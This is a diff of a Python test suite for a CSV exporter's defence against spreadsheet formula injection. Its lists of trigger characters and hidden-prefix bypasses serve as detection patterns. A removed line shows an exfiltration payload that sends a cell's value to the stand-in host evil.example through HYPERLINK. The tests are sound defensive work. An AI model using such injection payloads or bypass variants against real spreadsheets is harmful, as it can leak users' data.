@@ -13,20 +13,52 @@ from hypothesis import strategies as st
 
 from spendmeter_rollups.csv_text import csv_text
 
-FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
+FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁼")  # noqa: RUF001 - these very characters
+HIDDEN = ("", " ", "  ", "\xa0", "\u200b", "\ufeff", "\u3000", "\u202e", '"', "'", "“", ' "\xa0', "\x00", "\x01")
+SEPARATORS = (";", "|", "\t", "\r", "\n", "\x0b", "\u2028")
+RUNS = "HYPERLINK(A1)"
 
 
-@pytest.mark.parametrize("begin", FORMULAS)
-def test_text_that_a_spreadsheet_would_run_is_shown_instead(begin: str) -> None:
-    text = f'{begin}HYPERLINK("http://evil.example?"&A1,"sum")'
+def written(text: str) -> str:
+    """The cell as a reader of the file gets it."""
     ((cell,),) = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
-    assert cell == f"'{text}"
+    return cell
+
+
+@pytest.mark.parametrize("hidden", HIDDEN)
+@pytest.mark.parametrize("begin", FORMULAS)
+def test_text_that_a_spreadsheet_would_run_is_shown_instead(begin: str, hidden: str) -> None:
+    """Row L9: each form of the sign, behind whatever a spreadsheet removes."""
+    text = f"{hidden}{begin}{RUNS}"
+    assert written(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["\tplain", "\rplain", "\nplain"])
+def test_text_that_begins_with_a_line_end_or_a_tab_is_shown(text: str) -> None:
+    assert written(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("hidden", HIDDEN)
+@pytest.mark.parametrize("separator", SEPARATORS)
+@pytest.mark.parametrize("begin", FORMULAS)
+def test_a_file_opened_with_another_separator_runs_nothing(begin: str, separator: str, hidden: str) -> None:
+    """Row L9: the text after any separator is a cell of its own for somebody."""
+    text = f"school{separator}{hidden}{begin}{RUNS}"
+    assert written(text) == f"school{separator}'{hidden}{begin}{RUNS}"
+
+
+def test_a_long_run_of_separators_costs_little() -> None:
+    """The pattern looks ahead no further than a bound: 10,000 cells of this kind end before the test's patience."""
+    assert len(csv_text([["\n" * 500]] * 10_000)) > 5_000_000
 
 
 @given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=2))
 def test_any_other_text_comes_back_as_it_was(cells: list[str]) -> None:
     (back,) = csv.reader(io.StringIO(csv_text([cells]), newline=""))
-    assert back == [f"'{cell}" if cell.startswith(FORMULAS) else cell for cell in cells]
+    for cell, read in zip(cells, back, strict=True):
+        assert read.replace("'", "") == cell.replace("'", "")
+        if not set(cell) & {*FORMULAS, *"﹢﹣﹫⁺⁻₌₊₋", "\t", "\r", "\n"}:
+            assert read == cell
 
 
 def test_numbers_keep_their_sign_and_all_their_digits() -> None:
